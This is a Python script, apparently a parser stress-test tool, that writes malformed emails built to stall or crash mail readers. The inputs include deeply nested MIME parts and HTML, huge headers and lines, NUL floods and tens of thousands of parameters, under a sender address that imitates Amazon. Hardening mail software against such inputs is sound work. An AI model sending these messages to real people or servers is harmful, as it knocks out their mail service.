"""Mail made to stall or crash whoever reads it: `hostile_mails.py NAME FILE` writes one."""
import sys

MEGABYTE = 1 << 20
HEAD = b"From: no-reply-aws@amazon.com\nTo: root@example.com\nSubject: Hostile\nDate: Tue, 24 Nov 2026 01:00:00 +0000\n"


def nested_multiparts(depth):
    opened = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth))
    return HEAD + opened + b"Content-Type: text/plain\n\nHello.\n"


def nested_messages(depth):
    return HEAD + b"Content-Type: message/rfc822\n\n" * depth + b"Subject: inner\n\nHello.\n"


def many_parts(count):
    return (HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" +
            b"--b\nContent-Type: text/plain\n\nHello.\n" * count + b"--b--\n")


def base64_of_entities(count):
    encoded = b"JiN4MzA0MjsmIzEyMzU0OyZhbXA7JiN4MzA0Mjsm\n"  # numeric character references, again and again
    return HEAD + b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" + encoded * count


MAILS = {
    "multipart 10,000 deep": lambda: nested_multiparts(10_000),
    "messages 10,000 deep": lambda: nested_messages(10_000),
    "1,000,000 headers": lambda: HEAD + b"X-Header: value\n" * 1_000_000 + b"\nHello.\n",
    "a body of 200 MB": lambda: HEAD + b"\n" + (b"Hello, world, this is a line of text.\n" * 27_600) * 200,
    "100,000 parts": lambda: many_parts(100_000),
    "base64 of entities": lambda: base64_of_entities(200_000),
    "NULs": lambda: HEAD + b"X-Null: \0\0\0\n\n" + b"\0" * (4 * MEGABYTE),
    "an endless line": lambda: HEAD + b"\n" + b"x" * (50 * MEGABYTE),
    "an endless header": lambda: HEAD + b"X-Long: " + b"x" * (50 * MEGABYTE) + b"\n\nHello.\n",
    "a charset name of 10 KB": lambda: HEAD + b"Content-Type: text/plain; charset=" + b"x" * 10_000 + b"\n\nHello.\n",
    "charset names in words": lambda: HEAD + b"X-Word: =?" + b"x" * 10_000 + b"?q?a?=\nSubject: " + b"=?x?q?a?= " * 800 + b"\n\nHello.\n",
    "a group of groups": lambda: HEAD.replace(b"no-reply-aws@amazon.com", b"a:" * (MEGABYTE // 2)) + b"\nHello.\n",
    "64,000 parameters": lambda: HEAD + b"Content-Type: text/plain" + b"; a=b" * 64_000 + b"\n\nHello.\n",
    "64,000 parameters in continuations": lambda: HEAD + b"Content-Type: text/plain" +
    b"".join(b";\n a*%d=b" % n for n in range(64_000)) + b"\n\nHello.\n",
    "1,000,000 boundary lines": lambda: HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n" * 1_000_000,
    "long boundaries": lambda: HEAD + b"Content-Type: multipart/mixed; boundary=" + b"b" * 9_000 + b"\n\n" +
    (b"--" + b"b" * 9_000 + b"\n") * 1_000,
    "comments in an address": lambda: HEAD.replace(b"no-reply-aws@amazon.com", b"(" * 9_000 + b"a@example.com") + b"\nHello.\n",
    "deep HTML": lambda: HEAD + b"Content-Type: text/html\n\n" + b"<div>" * 200_000 + b"Hello",
    "one tag with many attributes": lambda: HEAD + b"Content-Type: text/html\n\n<a " +
    b"".join(b"a%d=1 " % n for n in range(60_000)) + b">Hello</a>",
    "tags whose attributes go to the first": lambda: HEAD + b"Content-Type: text/html\n\n" +
    b"".join(b"<body a%d></body>\n" % n for n in range(50_000)) + b"Hello",
    "headings of metadata": lambda: HEAD + b"\n" + b"Message metadata\n" * 60_000,
    "a table in a table in a table": lambda: HEAD + b"Content-Type: text/html\n\n" + b"<table><tr><td>" * 50_000 + b"Hello",
}

if __name__ == "__main__":
    with open(sys.argv[2], "wb") as file:
        file.write(MAILS[sys.argv[1]]())
